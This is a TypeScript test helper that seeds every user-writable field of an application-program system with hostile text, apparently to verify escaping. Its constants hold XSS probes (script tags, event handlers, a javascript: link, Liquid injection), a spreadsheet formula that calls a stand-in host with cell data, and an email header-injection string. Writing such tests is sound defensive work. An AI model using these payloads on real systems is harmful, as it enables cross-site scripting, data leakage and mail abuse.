import { form } from '../../src/modules/programs/policy/form.ts';
import { membership } from '../../src/modules/programs/policy/membership.ts';
import { openSourcePreset } from '../../src/modules/programs/presets/open-source.ts';
import { makeTestAccount } from './accounts.ts';
import { askedHow } from './busy-program.ts';
import { linkIn, type TestClient, type TestHouse } from './house.ts';
import { answering, openMailbox } from './mailbox.ts';
import { type Applied, apply, confirm, LOCAL_CHECKS, openProgram, requiring } from './program.ts';

/** In every hostile text, and nowhere in our own. */
export const MARK = 'zqxwv';
/** Leaves an attribute, a text box, a title, a comment; brings an element, a handler, a script, an address that runs, and Liquid. */
export const MARKUP = `${MARK} '"></textarea></title>--><${MARK}-a ${MARK}=1 onclick=${MARK}()><script>${MARK}()</script><img src=${MARK} onerror=${MARK}()><a href="javascript:${MARK}()">a</a>{{ "${MARK}" | append: "-run" }}`;
/** A spreadsheet would ask an address of the stranger's for it. */
export const FORMULA = `=HYPERLINK("//${MARK}.example/"&A1,"${MARK}")`;
/** Would be a header of its own where lines of a header are not kept together. */
const HEADER = `${MARK} a\r\nBcc: everybody@${MARK}.example\r\nX-Zqx: 1\r\n\r\nb`;
const TEXTS = { markup: MARKUP, formula: FORMULA, header: HEADER } as const;
const LINE_END = /[\r\n]+/g;

/** Keys of pages besides those of applications. */
export type Others = { give: string; take: string; opinion: string; preview: string; moving: string };

type Written = {
  house: TestHouse;
  /** An owner whose name is hostile, too. */
  owner: TestClient;
  token: string;
  program: string;
  applied: Applied[];
  keys: string[];
};

/**
 * A house in which everything that people can write freely is hostile: applicants, strangers, colleagues. It must allow the private host
 * localhost:9, where nobody listens, so that what webhooks send fails at once. Answers what is needed to look at it.
 */
export async function writeEverywhere(house: TestHouse): Promise<Written & { draft: string; others: Others }> {
  const { token } = await house.transact((c) =>
    makeTestAccount(c, { role: 'owner', program: null, name: MARKUP.slice(0, 120) }),
  );
  const owner = house.client({ authorization: `Bearer ${token}` });
  const program = await openProgram(house);
  const written: Written = { house, owner, token, program, applied: [], keys: [] };
  const { applied } = written;
  for (const [n, text] of Object.entries(TEXTS)) {
    await owner.programs.addCoupons({
      program,
      sku: 'OSS-SAAS-1Y',
      name: text.slice(0, 120),
      csv: [1, 2].map((i) => `${n}-CODE-${i}`).join('\n'),
    });
    const mail = `invited-${n}@example.org`;
    await owner.access.invite({ mail, name: text.replace(LINE_END, ' ').slice(0, 120), role: 'reviewer', program });
    await owner.access.makeRole({ name: text.replace(LINE_END, ' ').slice(0, 50), permissions: ['applications.read'] });
  }
  const webhook = await owner.webhooks.addEndpoint({
    address: `https://localhost:9/${MARK}`,
    words: MARKUP.slice(0, 200),
    kinds: null,
    program: null,
  });
  await writeAsStaff(written);
  for (const text of Object.values(TEXTS)) await applyWith(written, text);
  for (const text of Object.values(TEXTS)) await writeFromOutside(written, text);
  const others = await openOthers(written);
  const answers = Object.fromEntries(
    ['applicantName', 'address', 'country', 'project', 'namespaceUrl', 'repositories', 'purpose', 'hosting'].map(
      (name) => [name, MARKUP],
    ),
  );
  const { key: draft } = await house.stranger.programs.saveDraft({
    program: 'open-source',
    answers: { ...answers, statements: [MARKUP] },
  });
  await house.stranger.programs.mailDraftLink({ key: draft, address: 'draft@example.org' });
  for (const { address } of applied.slice(0, 3)) await house.stranger.programs.mailLostLink({ address });
  await house.stranger.access.requestPasswordReset({ mail: (await owner.access.me({})).account?.mail ?? '' });
  await owner.webhooks.sendTest({ id: webhook.id });
  const { rows: people } = await owner.community.listPeople({});
  await owner.community.mergePeople({
    one: people[0]?.id ?? '',
    other: people[1]?.id ?? '',
    reason: MARKUP.slice(0, 200),
  });
  house.clock.advance({ minutes: 10 });
  await house.work();
  return { ...written, draft, others };
}

/** What people of the organisation write themselves, as hostile as it lets them. */
async function writeAsStaff({ owner, program }: Written): Promise<void> {
  await owner.access.updateOrganisation({
    ...(await owner.access.organisation({})),
    name: MARKUP.slice(0, 120),
    privacyContact: MARKUP.slice(0, 200),
  });
  const { policy } = openSourcePreset;
  const said = (words: string) => `${words} ${MARKUP}\n\n${FORMULA}`;
  await owner.programs.publishPolicy({
    program,
    basedOn: (await owner.programs.getProgram({ program })).policyVersion,
    policy: {
      ...policy,
      automatic: false,
      undoMinutes: 0,
      summary: said('Summary'),
      benefit: { ...policy.benefit, words: said('Benefit') },
      requirements: requiring(LOCAL_CHECKS).map((each) => ({ ...each, words: said(each.check) })),
      statements: policy.statements.map((each) => ({ ...each, words: said(each.code) })),
      agreement: { version: MARKUP.slice(0, 40), title: said('Title'), text: said('Text') },
      privacy: { version: MARKUP.slice(0, 40), text: said('Privacy') },
      form: form.parse({
        fields: [
          {
            ...{ name: 'extra', kind: 'choice', label: said('Field'), hint: said('Hint'), required: false },
            choices: [{ value: 'one', label: said('Choice') }],
          },
        ],
      }),
      membership: membership.parse({
        entry: 'nomination',
        contacts: [{ role: 'primary', label: said('Contact') }],
        duties: [{ code: 'story', words: said('Duty') }],
        levels: [{ code: 'first', label: said('Level') }],
      }),
      reasons: policy.reasons.map((each) => ({ ...each, label: said('Label'), advice: said('Advice') })),
    },
  });
}

/** An application whose every free text is `text`, brought to an end of each kind, with words from both sides. */
async function applyWith({ house, owner, program, applied, keys }: Written, text: string): Promise<void> {
  const one = async (n: string, act: (id: string, key: string) => Promise<unknown>) => {
    const namespaceUrl = `https://gitlab.com/group-${applied.length}/a`;
    const each = await apply(house, `${applied.length}-${n}`, {
      applicantName: text.slice(0, 200),
      project: text.slice(0, 200),
      purpose: text,
      namespaceUrl,
    });
    const key = await confirm(house, each);
    applied.push(each);
    keys.push(key);
    await house.work();
    await act(each.id, key);
    await house.work();
  };
  const staff = owner.programs;
  const { stranger } = house;
  await one('member', async (id, key) => {
    await staff.askApplicant({ id, words: text });
    await stranger.programs.answerQuestion({ key, body: text });
    await stranger.programs.writeToTeam({ key, body: text });
    await staff.writeToApplicant({ id, body: text });
    await owner.work.addNote({ about: { kind: 'application', id }, body: text });
    await owner.work.addTodo({ title: text.slice(0, 300), about: { kind: 'application', id } });
    await staff.approveApplication({ id, words: text });
    await house.work();
    const { agreement } = await stranger.programs.application({ key });
    await stranger.programs.acceptAgreement({ key, version: agreement?.version ?? '', signedName: text.slice(0, 200) });
    await house.work();
    await staff.confirmBooking({ id, reference: text.slice(0, 200) });
  });
  // The others show nothing that this one does not: the tables and headers of one are enough.
  if (text !== MARKUP) return;
  await one('refused', async (id) => {
    const reason = (await staff.getProgram({ program })).policy.reasons[0]?.code ?? '';
    await staff.refuseApplication({ id, reason, words: text });
  });
  await one('asked', (id) => staff.askApplicant({ id, words: text }));
  await one('moved', (_id, key) =>
    stranger.programs.changeAddress({ key, address: `moved-${keys.length}@example.org` }),
  );
}

/** Everything that strangers and colleagues write beside applications: invitations, nominations, customers, mails. */
async function writeFromOutside({ house, owner, program }: Written, text: string): Promise<void> {
  const name = text.replace(LINE_END, ' ').slice(0, 200);
  const n = Object.values<string>(TEXTS).indexOf(text);
  await owner.programs.invite({ program, name, address: `guest-${n}@example.org`, words: text });
  await house.stranger.programs.nominate({
    program: 'open-source',
    nomineeName: name,
    nomineeAddress: `named-${n}@example.org`,
    nominatorName: name,
    nominatorAddress: `friend-${n}@example.org`,
    words: text,
  });
  await owner.programs.bringCustomers({ csv: `number,name\n"C-${n}","${name.replaceAll('"', '""')}"` });
  await house.work();
}

/** A member's references, contacts and an offer to another owner; what was said of a decision; a mail that came in. */
async function openOthers({ house, owner, program, applied, keys }: Written): Promise<Others> {
  const key = keys[0] as string;
  const { rows } = await owner.programs.listMembers({ program });
  for (const { id } of rows) {
    await owner.programs.recordReference({ id, kind: 'quote', scope: MARKUP });
    await owner.programs.recordReference({ id, kind: 'logo', scope: FORMULA });
  }
  await house.stranger.programs.saveOwnContact({
    key,
    role: 'primary',
    name: MARKUP.slice(0, 200),
    address: 'contact@example.org',
  });
  const taker = 'taker@example.org';
  await house.stranger.programs.offerOwner({ key, name: MARKUP.slice(0, 200), address: taker });
  await house.work();
  const linkTo = async (address: string, path: string) => {
    const mails = await house.mailbox(address);
    const mail = mails.findLast(({ text }) => text.includes(path));
    return linkIn(mail?.text ?? '', path).slice(path.length, path.length + 43);
  };
  // Under this version nobody from Germany would have been approved.
  const { policy } = await owner.programs.getProgram({ program });
  const { version } = await owner.programs.publishPolicy({
    ...{ program, policy: { ...policy, embargo: ['DE'] } },
    basedOn: (await owner.programs.getProgram({ program })).policyVersion,
  });
  const { id: preview } = await owner.programs.previewPolicy({ program, version });
  const { id: moving } = await owner.programs.moveApplications({ program, version, reason: FORMULA });
  await house.work();
  const { post } = await openMailbox(house, program);
  const ours = { message_id: '<nobody@guildhall.example>', reply_to: null, to_address: 'stranger@example.org' };
  await post(answering(ours, MARKUP, { subject: FORMULA }));
  await post(answering(ours, FORMULA, { subject: MARKUP }));
  return {
    give: await linkTo(applied[0]?.address ?? '', '/m/give/'),
    take: await linkTo(taker, '/m/take/'),
    preview,
    moving,
    opinion: await askedHow(house, program, applied[0]?.id ?? '', MARKUP),
  };
}
